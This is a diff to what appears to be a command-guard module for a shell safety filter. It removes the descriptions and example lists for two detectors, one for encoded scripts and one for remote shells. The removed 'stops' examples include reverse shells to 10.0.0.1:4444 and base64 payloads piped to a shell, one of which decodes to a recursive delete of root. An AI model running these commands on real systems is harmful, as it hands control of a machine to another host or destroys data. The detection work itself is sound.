@@ -101,41 +101,9 @@ DECODED_SCRIPT = Guard(
     id="decoded-script",
     reason="this runs text that was hidden by an encoding",
     advice="decode it into a file, read it, then run it",
-    about=(
-        "base64, xxd, openssl or uudecode feeding a shell or another interpreter: through a pipe, a"
-        " substitution or a variable."
-    ),
     sees=_sees,
     programs=_INTERPRETERS | _EVALUATES | {RUNS_DECODED},
     remote=True,
-    stops=(
-        "echo cm0gLXJmIC8= | base64 -d | sh",
-        "base64 --decode payload | bash",
-        "base64 -D < payload | python3",
-        "xxd -r -p payload | sh",
-        "openssl enc -d -base64 -in payload | bash",
-        "bash <(base64 -d payload)",
-        'eval "$(echo ZWNobyBoaQ== | base64 -d)"',
-        'sh -c "$(base64 -d <<< ZWNobyBoaQ==)"',
-        "source <(base64 -d payload)",
-        'x=$(base64 -d payload); eval "$x"',
-        "cat payload | base64 -d | sudo bash",
-        "openssl base64 -d | sh",
-        "powershell -enc ZQBjAGgAbwA=",
-        "python3 -c 'import base64, os; os.system(base64.b64decode(p).decode())'",
-    ),
-    passes=(
-        "base64 -d payload > out.bin",
-        "echo aGk= | base64 -d",
-        "base64 file | tr -d '\\n'",
-        "kubectl get secret x -o json | base64 -d | python3 -m json.tool",
-        "base64 -d token | python3 -c 'import sys; print(len(sys.stdin.read()))'",
-        "xxd file | head",
-        "pwsh -ExecutionPolicy RemoteSigned -File build.ps1",
-        "curl -fsSL https://example.com/install.sh | sh",
-        "echo 'echo hi' | sh",
-        "base64 -d cert.b64 | openssl x509 -text",
-    ),
 )
 
 
@@ -192,30 +160,7 @@ REMOTE_SHELL = Guard(
     id="remote-shell",
     reason="this gives a shell on this machine to another one",
     advice="let the person open the connection, with SSH for example",
-    about=(
-        "Shells whose input and output are a network connection: `/dev/tcp`, `nc -e`, `socat EXEC`."
-        " Plain connections and port checks are not its business."
-    ),
     sees=_remote_shell_sees,
     programs=frozenset(_BY_PROGRAM),
     remote=True,
-    stops=(
-        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
-        "sh -i < /dev/tcp/10.0.0.1/4444",
-        "nc -e /bin/sh 10.0.0.1 4444",
-        "ncat -lvp 4444 --exec /bin/bash",
-        "nc -lvpe /bin/sh",
-        "socat TCP:10.0.0.1:4444 EXEC:/bin/sh",
-        "ncat --sh-exec='bash -i' 10.0.0.1 4444",
-        "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'",
-    ),
-    passes=(
-        "nc -zv localhost 5432",
-        "echo > /dev/tcp/localhost/5432",
-        "timeout 1 cat < /dev/tcp/localhost/80",
-        "bash -i",
-        "socat - UNIX-CONNECT:/var/run/docker.sock",
-        "socat TCP-LISTEN:8080,fork TCP:localhost:80",
-        "nc localhost 8080 < request.txt",
-    ),
 )
